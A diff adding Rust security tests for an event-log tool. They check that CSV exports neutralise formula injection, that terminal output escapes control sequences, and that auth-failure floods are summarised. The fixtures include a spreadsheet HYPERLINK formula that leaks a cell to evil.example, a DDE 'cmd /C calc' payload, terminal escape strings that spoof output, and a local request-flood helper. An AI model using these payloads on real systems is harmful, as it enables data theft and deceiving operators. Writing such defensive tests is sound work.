@@ -1,0 +1,496 @@
+//! Issue 12, the people and tools that read the log: stored formulas reach
+//! no spreadsheet live (CSV over HTTP and in the CLI), stored control
+//! characters reach no terminal raw (tables, `tail`, `cat`, `query` on a
+//! real pseudo-terminal), a live replay reads forward by `seq`.
+
+use std::fs::File;
+use std::io::Read;
+use std::os::fd::{FromRawFd, OwnedFd};
+use std::process::{Command, Stdio};
+
+use evlog::{Config, Event, EventLog, EventType};
+use serde_json::{Value, json};
+
+use crate::serve::{Serve, caught_up, client};
+use crate::util::*;
+
+/// Stored strings that a spreadsheet would run, and how the CSV shows them.
+const FORMULAS: &[(&str, &str)] = &[
+    (
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    ),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+2", "'+1+2"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\tx", "'\tx"),
+    ("\rx", "'\rx"),
+    ("'=quoted", "''=quoted"),
+    ("harmless = text", "harmless = text"),
+];
+
+/// One hostile event per formula: the formula in every free-text column.
+fn formula_events() -> Vec<Value> {
+    FORMULAS
+        .iter()
+        .map(|(f, _)| {
+            json!({"event_type": "commit", "status": "success", "user_id": f, "action_description": f,
+                   "comments": f, "request_id": f, "files_changed": [f, "b.rs"],
+                   "metadata": {"k": f}, "duration_ms": 1.5})
+        })
+        .collect()
+}
+
+/// Checks a CSV export of [`formula_events`]: every formula cell neutralised.
+#[track_caller]
+fn check_csv(csv_text: &str) {
+    let mut r = csv::Reader::from_reader(csv_text.as_bytes());
+    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
+    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), FORMULAS.len(), "{csv_text}");
+    for (stored, shown) in FORMULAS {
+        let row = rows
+            .iter()
+            .find(|row| row[col("user_id")] == **shown)
+            .unwrap_or_else(|| panic!("no row for {stored:?} in\n{csv_text}"));
+        for c in ["action_description", "comments", "request_id"] {
+            assert_eq!(&row[col(c)], *shown, "{c} of {stored:?}");
+        }
+        let files = format!("{stored};b.rs");
+        let want = if shown == stored {
+            files
+        } else {
+            format!("'{files}")
+        };
+        assert_eq!(row[col("files_changed")], want);
+        assert!(row[col("metadata")].starts_with('{'));
+        assert_eq!(&row[col("duration_ms")], "1.5");
+    }
+}
+
+/// Issue 12: `=HYPERLINK(...)` and `=cmd|...` stored by any key-holder were
+/// written to CSV as is, and ran in the spreadsheet of the admin who opened
+/// the export.
+#[test]
+fn csv_export_neutralises_formulas_over_http_and_in_the_cli() {
+    let store = Store::new();
+    let s = Serve::start(&store);
+    let http = client();
+    let r = http
+        .post(s.url("/events"))
+        .header("X-API-Key", &s.admin)
+        .json(&formula_events())
+        .send()
+        .unwrap();
+    assert_eq!(r.status(), 201, "{}", r.text().unwrap());
+    caught_up(&s);
+    let csv_text = http
+        .get(s.url("/events/export?format=csv&event_type=commit"))
+        .header("X-API-Key", &s.admin)
+        .send()
+        .unwrap()
+        .text()
+        .unwrap();
+    check_csv(&csv_text);
+    let (status, _) = s.terminate();
+    assert!(status.success());
+    let out = store.run(&["query", "--event-type", "commit", "--format", "csv"], b"");
+    out.expect_code(0);
+    check_csv(&out.stdout);
+}
+
+/// A description that would clear the screen, set the window title, ring
+/// the bell, overwrite its own line with a fake one, and the same with a C1
+/// CSI, DEL and a right-to-left override.
+const HOSTILE: &str =
+    "deploy ok\x1b[2J\x1b]0;pwned\x07\r\x1b[1Afake: all good\n\u{9b}31mred\u{7f}\u{202e}txt.exe";
+
+/// A store with one hostile event (also in `user_id`) and one plain one.
+fn hostile_store() -> Store {
+    let store = Store::new();
+    let log = EventLog::open(Config::new(store.path())).unwrap();
+    log.append(Event::new(EventType::Commit, "mallory\x1b[8m", HOSTILE))
+        .unwrap();
+    log.append(Event::new(EventType::Commit, "dev", "plain"))
+        .unwrap();
+    store
+}
+
+/// Whether `text` holds a byte or character a terminal would obey, other
+/// than the line ends.
+fn obeyable(text: &str) -> Option<char> {
+    text.chars().find(|&c| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    })
+}
+
+/// Runs `evlog <args>` on `store` with standard output on a fresh
+/// pseudo-terminal (so the command sees a terminal, as an operator's
+/// would), and returns what it wrote there (the terminal's `\r\n` as `\n`).
+fn on_a_terminal(store: &Store, args: &[&str]) -> String {
+    // SAFETY: plain libc calls on descriptors this function owns.
+    let (master, slave) = unsafe {
+        let m = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC);
+        assert!(m >= 0, "posix_openpt: {}", std::io::Error::last_os_error());
+        assert_eq!(libc::grantpt(m), 0);
+        assert_eq!(libc::unlockpt(m), 0);
+        let mut name = [0 as libc::c_char; 128];
+        assert_eq!(libc::ptsname_r(m, name.as_mut_ptr(), name.len()), 0);
+        let s = libc::open(
+            name.as_ptr(),
+            libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC,
+        );
+        assert!(
+            s >= 0,
+            "opening the pty: {}",
+            std::io::Error::last_os_error()
+        );
+        (File::from_raw_fd(m), OwnedFd::from_raw_fd(s))
+    };
+    let mut child = {
+        let mut cmd: Command = store.cmd();
+        cmd.args(args)
+            .stdin(Stdio::null())
+            .stdout(Stdio::from(slave))
+            .stderr(Stdio::null());
+        cmd.spawn().unwrap()
+        // `cmd` and with it the last descriptor of the slave in this
+        // process go here, so the master reads EIO once the child is done.
+    };
+    let mut out = Vec::new();
+    let mut buf = [0u8; 8192];
+    let mut master = master;
+    loop {
+        match master.read(&mut buf) {
+            Ok(0) => break,
+            Ok(n) => out.extend_from_slice(&buf[..n]),
+            // EIO: every slave descriptor is closed.
+            Err(e) if e.raw_os_error() == Some(libc::EIO) => break,
+            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
+            Err(e) => panic!("reading the pty: {e}"),
+        }
+    }
+    assert!(child.wait().unwrap().success(), "evlog {args:?}");
+    String::from_utf8(out).unwrap().replace("\r\n", "\n")
+}
+
+/// Issue 12: an event's description went raw to the operator's terminal:
+/// `evlog query`'s table, `evlog tail` and `evlog cat` printed ESC, CR and
+/// C1 controls, so a stored event could clear the screen, retitle the
+/// window or print a fake line over a real one.
+#[test]
+fn terminal_output_shows_control_characters_instead_of_obeying_them() {
+    let store = hostile_store();
+    // Tables escape always, piped or not: one line per event.
+    let out = store.run(&["query", "--format", "table"], b"");
+    out.expect_code(0);
+    assert_eq!(obeyable(&out.stdout), None, "{:?}", out.stdout);
+    assert_eq!(out.stdout.lines().count(), 4, "{}", out.stdout);
+    assert!(
+        out.stdout.contains(
+            "deploy ok\\x1b[2J\\x1b]0;pwned\\x07\\r\\x1b[1Afake: all good\\n\\u{9b}31mred\\x7f\\u{202e}txt.exe"
+        ),
+        "{}",
+        out.stdout
+    );
+    assert!(out.stdout.contains("mallory\\x1b[8m"), "{}", out.stdout);
+
+    // On a terminal: the table by default, and JSON with every control escaped.
+    let table = on_a_terminal(&store, &["query"]);
+    assert_eq!(obeyable(&table), None, "{table:?}");
+    assert!(table.contains("fake: all good\\n"), "{table}");
+    for args in [
+        &["tail", "-n", "5"][..],
+        &["cat"],
+        &["query", "--format", "ndjson"],
+    ] {
+        let text = on_a_terminal(&store, args);
+        assert_eq!(obeyable(&text), None, "evlog {args:?}: {text:?}");
+        let descs: Vec<Value> = text
+            .lines()
+            .map(|l| {
+                serde_json::from_str::<Value>(l)
+                    .unwrap_or_else(|e| panic!("evlog {args:?}: {e}: {l:?}"))["action_description"]
+                    .clone()
+            })
+            .collect();
+        assert!(
+            descs.contains(&json!(HOSTILE)),
+            "evlog {args:?}: the same JSON value"
+        );
+        assert_eq!(descs.len(), 2, "evlog {args:?}: {text}");
+    }
+    let text = on_a_terminal(&store, &["query", "--format", "json"]);
+    assert_eq!(obeyable(&text), None, "{text:?}");
+    let body: Value = serde_json::from_str(&text).unwrap();
+    assert_eq!(body["events"][1]["action_description"], HOSTILE);
+
+    // Piped, `cat` still prints the stored lines byte for byte.
+    let out = store.run(&["cat"], b"");
+    out.expect_code(0);
+    let stored: Vec<u8> = store.lines().join(&b'\n');
+    assert_eq!(out.stdout.trim_end().as_bytes(), &stored[..]);
+    assert!(out.stdout.contains('\u{9b}'));
+}
+
+/// `n` keyless `GET /events` on keep-alive connections from 127.0.0.1,
+/// pipelined 100 at a time over `conns` connections; returns the number of
+/// answers (each a 403).
+fn keyless_flood(addr: &str, n: usize, conns: usize) -> usize {
+    let per = n / conns;
+    let threads: Vec<_> = (0..conns)
+        .map(|_| {
+            let addr = addr.to_string();
+            std::thread::spawn(move || {
+                let mut c = std::net::TcpStream::connect(&addr).unwrap();
+                c.set_read_timeout(Some(std::time::Duration::from_secs(60)))
+                    .unwrap();
+                let req = b"GET /events HTTP/1.1\r\nHost: x\r\n\r\n";
+                let (mut sent, mut answered) = (0, 0);
+                let mut buf = vec![0u8; 1 << 16];
+                let needle = b"HTTP/1.1 403";
+                let mut carry = Vec::new();
+                while sent < per {
+                    let burst = (per - sent).min(100);
+                    std::io::Write::write_all(&mut c, &req.repeat(burst)).unwrap();
+                    sent += burst;
+                    while answered < sent {
+                        let got = c.read(&mut buf).unwrap();
+                        assert!(got > 0, "the server closed the connection");
+                        // A status line may straddle two reads: keep the
+                        // bytes that could start one.
+                        carry.extend_from_slice(&buf[..got]);
+                        answered += memchr::memmem::find_iter(&carry, needle).count();
+                        carry.drain(..carry.len().saturating_sub(needle.len() - 1));
+                    }
+                }
+                answered
+            })
+        })
+        .collect();
+    threads.into_iter().map(|t| t.join().unwrap()).sum()
+}
+
+/// Every `auth_failure` event stored, through the admin key (all time).
+fn stored_denials(s: &Serve) -> Vec<Value> {
+    let text =
+        client()
+            .get(s.url(
+                "/events/export?event_type=auth_failure&start=1970-01-01T00:00:00Z&format=ndjson",
+            ))
+            .header("X-API-Key", &s.admin)
+            .send()
+            .unwrap()
+            .text()
+            .unwrap();
+    text.lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// One keyless `GET /events` from `from` (a loopback address), its status.
+fn keyless_from(addr: &str, from: &str) -> u16 {
+    let rt = tokio::runtime::Builder::new_current_thread()
+        .enable_all()
+        .build()
+        .unwrap();
+    rt.block_on(async {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+        let sock = tokio::net::TcpSocket::new_v4().unwrap();
+        sock.bind(format!("{from}:0").parse().unwrap()).unwrap();
+        let mut c = sock.connect(addr.parse().unwrap()).await.unwrap();
+        c.write_all(b"GET /events HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+            .await
+            .unwrap();
+        let mut reply = String::new();
+        c.read_to_string(&mut reply).await.unwrap();
+        reply[9..12].parse().unwrap()
+    })
+}
+
+/// Issue 12: every keyless or bad-key request was recorded as an
+/// `auth_failure` event through the server's one bounded queue: a flood
+/// wrote an event per request and, with the queue full, real denials (a
+/// user key refused) were dropped. Now one source gets a budget (10 a
+/// minute by default), the rest is counted into summaries, and keyed
+/// denials have a queue the flood never reaches. The test holds the
+/// writers' lock during the flood, so that nothing drains the queues.
+#[test]
+fn a_keyless_flood_is_summarised_and_cannot_push_out_a_real_denial() {
+    let store = Store::new();
+    std::fs::create_dir_all(store.path()).unwrap();
+    let config = store.file("../evlog.toml");
+    std::fs::write(&config, "[server.limits]\nauth_failure_summary_secs = 1\n").unwrap();
+    let s = Serve::start_opts(
+        &store,
+        crate::serve::Opts {
+            args: &["--config", config.to_str().unwrap()],
+            ..Default::default()
+        },
+    );
+    let http = client();
+    let out = store.run(&["keys", "add", "--role", "user", "--user", "alice"], b"");
+    out.expect_code(0);
+    let alice = out.stdout.trim().to_string();
+    // Until the server loads it, the key is refused (and counted below).
+    let mut refused = 0u64;
+    crate::serve::eventually("alice's key is loaded", || {
+        let r = http
+            .get(s.url("/events"))
+            .header("X-API-Key", &alice)
+            .send()
+            .ok()?;
+        refused += u64::from(r.status() == 401);
+        (r.status() == 200).then_some(())
+    });
+
+    // Nothing is written while the test holds the writers' lock.
+    let lock = std::fs::File::options()
+        .read(true)
+        .write(true)
+        .open(store.file("evlog.lock"))
+        .unwrap();
+    lock.lock().unwrap();
+    let started = std::time::Instant::now();
+    let flooded = 20_000;
+    assert_eq!(keyless_flood(&s.addr, flooded, 4), flooded);
+    let flood = flooded as u64 + refused;
+    // Another address keeps its own budget; a user key refused is recorded.
+    assert_eq!(keyless_from(&s.addr, "127.0.0.2"), 403);
+    let r = http
+        .get(s.url("/events?user_id=bob"))
+        .header("X-API-Key", &alice)
+        .send()
+        .unwrap();
+    assert_eq!(r.status(), 403);
+    lock.unlock().unwrap();
+
+    // Every denial of the flood is either stored or counted in a summary.
+    let denials = crate::serve::eventually("the flood is accounted for", || {
+        let d = stored_denials(&s);
+        let counted: u64 = d
+            .iter()
+            .filter(|e| e["source_ip"] == "127.0.0.1" && e["user_id"] == "anonymous")
+            .map(|e| e["metadata"]["suppressed"].as_u64().unwrap_or(1))
+            .sum();
+        (counted == flood).then_some(d)
+    });
+    let from_flood: Vec<&Value> = denials
+        .iter()
+        .filter(|e| e["source_ip"] == "127.0.0.1" && e["user_id"] == "anonymous")
+        .collect();
+    let one_by_one = from_flood
+        .iter()
+        .filter(|e| e["metadata"]["summary"].is_null())
+        .count() as u64;
+    let budget = 10 + started.elapsed().as_secs() / 6 + 1;
+    assert!(
+        one_by_one <= budget,
+        "{one_by_one} denials of the flood stored one by one"
+    );
+    assert!(
+        denials.iter().any(|e| e["user_id"] == "alice"
+            && e["metadata"]["code"] == "forbidden"
+            && e["metadata"]["role"] == "user"),
+        "the user key's denial was stored"
+    );
+    assert!(
+        denials.iter().any(|e| e["source_ip"] == "127.0.0.2"),
+        "the other address's denial was stored"
+    );
+    let metrics = http.get(s.url("/metrics")).send().unwrap().text().unwrap();
+    let suppressed = flood - one_by_one;
+    assert!(
+        metrics.contains(&format!(
+            "evlog_auth_failures_suppressed_total {suppressed}\n"
+        )),
+        "{suppressed} suppressed: {metrics}"
+    );
+}
+
+/// Issue 12: a denied request's path was stored whole (up to the 16 KiB
+/// head limit) in the event's metadata and description.
+#[test]
+fn stored_denials_cut_the_path_to_256_bytes() {
+    let store = Store::new();
+    let s = Serve::start(&store);
+    let long = format!("/events/{}", "a".repeat(5000));
+    let r = client().get(s.url(&long)).send().unwrap();
+    assert_eq!(r.status(), 403);
+    let denial = crate::serve::eventually("the denial is stored", || {
+        stored_denials(&s)
+            .into_iter()
+            .find(|e| e["metadata"]["path_bytes"] == long.len())
+    });
+    assert_eq!(denial["metadata"]["path"], &long[..256]);
+    let desc = denial["action_description"].as_str().unwrap();
+    assert!(desc.len() <= 512, "{} bytes", desc.len());
+    assert!(desc.starts_with(&format!("GET {}", &long[..256])), "{desc}");
+}
+
+/// Issue 12: `evlog keys add|revoke` stored its `system_config` events under
+/// the operator's `$USER`, so a `user` key named like the operator read
+/// every key change. They are the server's own (user `evlog`, which no
+/// `user` key can be), with the login in `metadata.operator`.
+#[test]
+fn key_changes_are_stored_under_evlog_with_the_operator_in_metadata() {
+    let store = Store::new();
+    let s = Serve::start(&store);
+    let keys = |args: &[&str]| {
+        let out = crate::util::run(store.cmd().env("USER", "ops").args(args), b"");
+        out.expect_code(0);
+        out
+    };
+    // A user key named like the operator, then changes it must not read.
+    let ops = keys(&["keys", "add", "--role", "user", "--user", "ops"]);
+    let ops = ops.stdout.trim().to_string();
+    keys(&["keys", "add", "--role", "user", "--user", "bob"]);
+    let list = keys(&["keys", "list", "--format", "json"]);
+    let list: Value = serde_json::from_str(&list.stdout).unwrap();
+    let bob = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|k| k["user_id"] == "bob")
+        .unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    keys(&["keys", "revoke", &bob]);
+    let http = client();
+    let all = "/events?event_type=system_config&start=1970-01-01T00:00:00Z";
+    let changes: Vec<Value> = crate::serve::eventually("the key changes are indexed", || {
+        let body: Value = http
+            .get(s.url(all))
+            .header("X-API-Key", &s.admin)
+            .send()
+            .ok()?
+            .json()
+            .ok()?;
+        let ev = body["events"].as_array()?.clone();
+        (ev.len() == 4).then_some(ev)
+    });
+    // The first admin key (by `evlog serve`) and the three changes.
+    for e in &changes {
+        assert_eq!(e["user_id"], "evlog", "{e}");
+        assert!(e["metadata"]["operator"].is_string(), "{e}");
+    }
+    assert_eq!(
+        changes
+            .iter()
+            .filter(|e| e["metadata"]["operator"] == "ops")
+            .count(),
+        3
+    );
+    let seen: Value = crate::serve::eventually("ops's key is loaded", || {
+        let r = http.get(s.url(all)).header("X-API-Key", &ops).send().ok()?;
+        (r.status() == 200).then(|| r.json().unwrap())
+    });
+    assert_eq!(
+        seen["total"], 0,
+        "a user key named like the operator: {seen}"
+    );
+}
